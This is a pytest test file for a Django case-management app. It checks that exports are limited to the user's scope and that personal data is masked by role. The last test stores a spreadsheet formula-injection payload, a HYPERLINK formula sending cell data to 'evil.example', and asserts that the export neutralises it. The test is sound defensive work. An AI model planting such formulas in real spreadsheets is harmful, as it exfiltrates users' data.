"""Case exports: CSV (UTF-8 with BOM), XLSX and GeoJSON, in scope only, personal data masked per role."""

from __future__ import annotations

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.conf import settings
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone, translation
from openpyxl import load_workbook

from commonground.cases.models import Case, Stage
from commonground.cases.services.intake import Contact, case_report
from commonground.cases.services.workflow import case_accept, case_dispatch, case_reject
from commonground.core.masking import mask_name
from commonground.core.models import Person, RoleKind
from commonground.core.rules import ROLE_PERMISSIONS
from commonground.core.services.accounts import role_assign


def url(name: str) -> str:
    return reverse(f"cases:{name}")


def phoned_in(people, category, place, name: str = "王小明", phone: str = "13900000001") -> Case:
    """A case the street's staff took on the phone for a caller."""
    return case_report(actor=people["street"], category=category, place=place, description="来电反映楼道堆物",
                       channel="phone", contact=Contact(name=name, phone=phone))


def csv_rows(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def header(key: str) -> str:
    with translation.override(settings.LANGUAGE_CODE):
        return translation.gettext(key)


def by_number(rows: list[list[str]]) -> dict[str, dict[str, str]]:
    head, *body = rows
    return {row[0]: dict(zip(head, row, strict=True)) for row in body}


@pytest.fixture
def masked_exporter(monkeypatch, located, make_user):
    """A property manager allowed to export (not a default grant) but not to see personal data."""
    monkeypatch.setitem(ROLE_PERMISSIONS, RoleKind.PROPERTY_MANAGER,
                        ROLE_PERMISSIONS[RoleKind.PROPERTY_MANAGER] | {"case.export"})
    return make_user(RoleKind.PROPERTY_MANAGER, located.estate)


def test_mask_name__family_name_kept():
    assert [mask_name(n) for n in ["王小明", "王五", "欧阳娜娜", ""]] == ["王**", "王**", "欧***", ""]


def test_export_csv__community_worker__own_community_in_full(client, located, categories, people):
    mine = phoned_in(people, categories["rubbish"], located.estate)
    theirs = phoned_in(people, categories["rubbish"], located.neighbour_estate, name="李四")
    client.force_login(people["worker"])
    response = client.get(url("export-csv"))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="cases-')
    rows = by_number(csv_rows(response))
    assert set(rows) == {mine.number}
    assert theirs.number not in rows
    row = rows[mine.number]
    assert (row[header("Category")], row[header("Place")], row[header("Stage")]) == (
        "暴露垃圾", located.estate.name, str(Stage(Stage.COLLECT).label))
    assert (row[header("Contact name")], row[header("Contact phone")]) == ("王小明", "13900000001")


def test_export_csv__reporter_contact_from_person(client, located, categories, people):
    Person.objects.filter(pk=located.owner.pk).update(phone="13800000001")
    case = case_report(actor=people["resident"], category=categories["rubbish"], place=located.estate,
                       description="垃圾三天没人清理")
    client.force_login(people["worker"])
    row = by_number(csv_rows(client.get(url("export-csv"))))[case.number]
    assert (row[header("Contact name")], row[header("Contact phone")]) == ("张三", "13800000001")


def test_export_csv__without_personal_data_permission__masked(client, located, categories, people, masked_exporter):
    case = phoned_in(people, categories["rubbish"], located.estate)
    client.force_login(masked_exporter)
    row = by_number(csv_rows(client.get(url("export-csv"))))[case.number]
    assert (row[header("Contact name")], row[header("Contact phone")]) == ("王**", "139****0001")


def test_export__masking_decided_per_row(client, located, categories, people, masked_exporter, monkeypatch):
    """Full contact in the community where the user may see personal data; masked in the estate where not."""
    monkeypatch.setitem(ROLE_PERMISSIONS, RoleKind.GRID_WORKER,
                        ROLE_PERMISSIONS[RoleKind.GRID_WORKER] | {"case.export"})
    role_assign(user=masked_exporter, role=RoleKind.GRID_WORKER, scope=located.neighbour,
                valid_from=datetime.date(2020, 1, 1))
    mine = phoned_in(people, categories["rubbish"], located.estate)
    theirs = phoned_in(people, categories["rubbish"], located.neighbour_estate, name="李小龙", phone="13900000002")
    phoned_in(people, categories["rubbish"], located.far_community)  # outside both scopes
    client.force_login(masked_exporter)
    rows = by_number(csv_rows(client.get(url("export-csv"))))
    assert set(rows) == {mine.number, theirs.number}
    assert (rows[mine.number][header("Contact name")], rows[mine.number][header("Contact phone")]) == (
        "王**", "139****0001")
    assert (rows[theirs.number][header("Contact name")], rows[theirs.number][header("Contact phone")]) == (
        "李小龙", "13900000002")


def test_export_csv__queue_filters_apply(client, located, categories, people):
    waiting = phoned_in(people, categories["rubbish"], located.estate)
    accepted = phoned_in(people, categories["rubbish"], located.building)
    case_accept(case=accepted, actor=people["worker"])
    client.force_login(people["worker"])
    assert set(by_number(csv_rows(client.get(url("export-csv"))))) == {waiting.number, accepted.number}
    filtered = by_number(csv_rows(client.get(url("export-csv"), {"stage": Stage.CREATE})))
    assert set(filtered) == {accepted.number}


def test_export__no_export_permission__403(client, located, categories, people):
    for user in (people["grid"], people["resident"], people["commissioner"]):
        client.force_login(user)
        for name in ("export-csv", "export-xlsx", "export-geojson"):
            assert client.get(url(name)).status_code == 403


def test_export_xlsx__rows_and_masking(client, located, categories, people, masked_exporter):
    case = phoned_in(people, categories["rubbish"], located.estate)
    case_accept(case=case, actor=people["worker"])
    case = case_dispatch(case=case, actor=people["worker"])
    phoned_in(people, categories["rubbish"], located.neighbour_estate)
    for user, name, phone in ((people["worker"], "王小明", "13900000001"), (masked_exporter, "王**", "139****0001")):
        client.force_login(user)
        response = client.get(url("export-xlsx"))
        assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
        sheet = load_workbook(io.BytesIO(response.content)).active
        head, *body = [list(row) for row in sheet.iter_rows(values_only=True)]
        assert len(body) == 1
        row = dict(zip(head, body[0], strict=True))
        assert (row[header("Number")], row[header("Contact name")], row[header("Contact phone")]) == (
            case.number, name, phone)
        assert f"{row[header('Deadline')]:%Y-%m-%d %H:%M}" == f"{timezone.localtime(case.deadline):%Y-%m-%d %H:%M}"


def test_export_geojson__open_cases_in_scope(client, located, categories, people):
    pinned = case_report(actor=people["resident"], category=categories["rubbish"], description="垃圾没人清理",
                         latitude=Decimal("30.280090"), longitude=Decimal("120.160090"))
    case_accept(case=pinned, actor=people["worker"])
    pinned = case_dispatch(case=pinned, actor=people["worker"])
    rejected = phoned_in(people, categories["rubbish"], located.estate)
    case_reject(case=rejected, actor=people["worker"], reason="重复")
    phoned_in(people, categories["rubbish"], located.neighbour_estate)
    client.force_login(people["worker"])
    response = client.get(url("export-geojson"))
    assert response["Content-Type"] == "application/geo+json"
    assert response["Content-Disposition"].endswith('.geojson"')
    collection = response.json()
    assert collection["type"] == "FeatureCollection"
    assert [f["properties"]["number"] for f in collection["features"]] == [pinned.number]
    feature = collection["features"][0]
    assert feature["geometry"] == {"type": "Point", "coordinates": [120.16009, 30.28009]}
    assert {k: feature["properties"][k] for k in ("number", "category", "stage")} == {
        "number": pinned.number, "category": "暴露垃圾", "stage": Stage.DISPATCH}
    assert feature["properties"]["deadline"] == timezone.localtime(pinned.deadline).isoformat()


def test_export__query_count__same_for_2_and_10_cases(client, located, categories, people):
    client.force_login(people["worker"])
    for _ in range(2):
        phoned_in(people, categories["rubbish"], located.estate)
    with CaptureQueriesContext(connection) as small:
        csv_rows(client.get(url("export-csv")))
    for _ in range(8):
        phoned_in(people, categories["rubbish"], located.building)
    with CaptureQueriesContext(connection) as large:
        assert len(csv_rows(client.get(url("export-csv")))) == 11
    assert len(large) == len(small)


def test_export__formula_and_control_characters_in_a_description__neutralised_and_exported(
        client, located, categories, people):
    """A resident's `=HYPERLINK(...)` must not become a live formula, and a stored control character (from before
    intake cleaned text) must not turn the XLSX export into a 500 for every staff user."""
    case = phoned_in(people, categories["rubbish"], located.estate)
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
    Case.objects.filter(pk=case.pk).update(description=hostile, address="楼道\x01口\x0b", contact_name="@SUM(1)")
    client.force_login(people["worker"])

    response = client.get(url("export-xlsx"))
    assert response.status_code == 200
    head, row = [list(r) for r in load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True)]
    cells = dict(zip(head, row, strict=True))
    assert cells[header("Description")] == "'" + hostile
    assert (cells[header("Address")], cells[header("Contact name")]) == ("楼道口", "'@SUM(1)")

    rows = by_number(csv_rows(client.get(url("export-csv"))))
    assert rows[case.number][header("Description")] == "'" + hostile
    assert rows[case.number][header("Address")] == "楼道口"
